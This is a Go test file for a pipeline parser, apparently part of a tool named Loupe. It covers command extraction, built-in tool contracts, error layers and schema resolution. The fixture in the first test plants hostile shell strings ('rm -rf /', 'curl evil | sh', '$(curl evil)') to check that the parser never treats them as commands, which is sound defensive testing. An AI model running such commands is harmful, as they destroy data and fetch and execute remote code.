package pipeline

import (
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"testing"

	"github.com/loupe-dev/loupe/internal/testrepo"
)

// TestPipelineCommands checks that the commands a pipeline lets the runner
// start are its command servers, split into words without a shell, and
// nothing else: not its parameters, step inputs, routers or runtime block.
func TestPipelineCommands(t *testing.T) {
	src := `servers:
  gen: builtin
  local: local://retriever
  web: https://mcp.example.com/mcp
  py: python3 "my server.py" --port 0
  ultra: servers/retriever
parameters:
  cmd: "rm -rf /"
  other: "$(curl evil)"
pipeline:
  - py.run:
      input:
        command: "sh -c 'curl evil | sh'"
        path: "$cmd"
  - branch:
      router: [ultra.route]
      branches:
        x: [gen.x]
runtime:
  state: {schema: "os:system"}
`
	p, err := Parse("p.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	want := []Command{
		{Server: "py", Argv: []string{"python3", "my server.py", "--port", "0"}, Pos: Pos{5, 7}},
		{Server: "ultra", Argv: []string{"servers/retriever"}, Pos: Pos{6, 10}},
	}
	got := p.Commands()
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Commands() = %+v, want %+v", got, want)
	}
	// The result is a copy: changing it changes nothing the next caller sees.
	got[0].Argv[0] = "sh"
	if p.Commands()[0].Argv[0] != "python3" || p.Server("py").Argv[0] != "python3" {
		t.Error("Commands() shares its slices with the pipeline")
	}
	kinds := map[string]ServerKind{"gen": ServerBuiltin, "local": ServerBuiltin, "web": ServerURL, "py": ServerCommand, "ultra": ServerCommand}
	for name, k := range kinds {
		if s := p.Server(name); s.Kind != k {
			t.Errorf("server %s kind = %v, want %v", name, s.Kind, k)
		}
	}
	if p.Server("local").Builtin != "retriever" || p.Server("gen").Builtin != "gen" {
		t.Errorf("builtin names: local=%q gen=%q", p.Server("local").Builtin, p.Server("gen").Builtin)
	}
}

func TestPipelineRequiredParameters(t *testing.T) {
	p := parseReal(t, "omni/demo-rag.yaml")
	q, k := p.Parameter("query"), p.Parameter("top_k")
	if !q.Required() || q.Ref != "query" {
		t.Errorf("query = %+v, want required (its value is $query)", q)
	}
	if k.Required() || k.Value != int64(5) {
		t.Errorf("top_k = %+v, want 5, not required", k)
	}
}

// TestPipelineContractsV1 checks that Loupe's built-in contracts keep
// every contract of omni's contracts.v1.json as it is.
func TestPipelineContractsV1(t *testing.T) {
	src, err := os.ReadFile(testrepo.Real(t, "omni/contracts.v1.json"))
	if err != nil {
		t.Fatal(err)
	}
	var omni contractsFile
	if err := json.Unmarshal(src, &omni); err != nil {
		t.Fatal(err)
	}
	if omni.Version != "v1" || len(omni.ToolContracts) == 0 {
		t.Fatalf("omni contracts = %+v", omni)
	}
	for tool, c := range omni.ToolContracts {
		server, name, _ := splitServerTool(tool)
		ours := BuiltinContract(server, name)
		if ours == nil || ours.Tool != tool || !slices.Equal(ours.RequiredInputKeys, c.RequiredInputKeys) {
			t.Errorf("built-in contract of %s = %+v, want omni's %v", tool, ours, c.RequiredInputKeys)
		}
	}
	if got := BuiltinServers(); !slices.Equal(got, []string{"evaluator", "generator", "retriever", "router"}) {
		t.Errorf("BuiltinServers() = %q", got)
	}
	if c := BuiltinContract("generator", "anything"); c == nil || c.Tool != "generator.*" {
		t.Errorf("generator.anything is covered by %+v, want generator.*", c)
	}
	if c := BuiltinContract("retriever", "anything"); c != nil {
		t.Errorf("retriever.anything is covered by %+v, want no contract", c)
	}
	if c := BuiltinRouter("check_quality"); c == nil || !slices.Equal(c.Routes, []string{"complete", "continue"}) {
		t.Errorf("BuiltinRouter(check_quality) = %+v", c)
	}
}

// TestPipelineErrorLayers checks the layer of each kind of error and the
// JSON encoding of an error.
func TestPipelineErrorLayers(t *testing.T) {
	src := `servers:
  retriever: builtin
pipeline:
  - retriever.search:
      input: {q: x}
      extra: 1
  - missing.tool
  - loop: {steps: [retriever.get_stats]}
`
	p, err := Parse("p.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	var got []Layer
	for _, e := range p.Validate() {
		got = append(got, e.Layer)
	}
	want := []Layer{LayerContract, LayerSchema, LayerSemantic, LayerSemantic}
	if !slices.Equal(got, want) {
		t.Errorf("layers = %v, want %v\n%v", got, want, p.Validate())
	}
	b, err := json.Marshal(p.Validate()[0])
	if err != nil {
		t.Fatal(err)
	}
	if want := "{\"file\":\"p.yaml\",\"line\":5,\"column\":7,\"layer\":\"contract\",\"message\":\"step `retriever.search` has no input `query`, which its contract requires; expected `query` under `input`\"}"; string(b) != want {
		t.Errorf("JSON = %s\nwant   %s", b, want)
	}
	if _, err := Load("no/such/file.yaml"); err == nil || err.(ErrorList)[0].Layer != LayerRead {
		t.Errorf("Load of a missing file: %v", err)
	}
	if p, err := Load(testrepo.Real(t, "ultrarag/rag_loop.yaml")); err != nil || p == nil {
		t.Errorf("Load(rag_loop) = %v, %v", p, err)
	}
}

func TestPipelineSchemaResolves(t *testing.T) {
	if _, err := resolvedPipelineSchema(); err != nil {
		t.Fatalf("schema.PipelineV1 does not resolve: %v", err)
	}
}
